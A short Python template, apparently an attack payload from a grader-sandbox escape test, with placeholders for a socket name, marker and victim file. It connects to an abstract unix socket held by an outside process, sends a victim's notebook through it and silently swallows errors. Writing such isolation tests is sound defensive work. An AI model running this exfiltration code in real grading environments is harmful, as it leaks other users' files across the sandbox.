# Connect to an abstract unix socket a process outside the grader listens on; send a victim's notebook.
def _attack():
    import socket

    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
        connection.settimeout(3)
        connection.connect("\0{ABSTRACT}")
        connection.sendall(b"HELLO {MARKER}\n")
        try:
            with open("{VICTIM}", "rb") as handle:
                connection.sendall(handle.read())
        except OSError:
            pass


try:
    _attack()
except Exception:
    pass
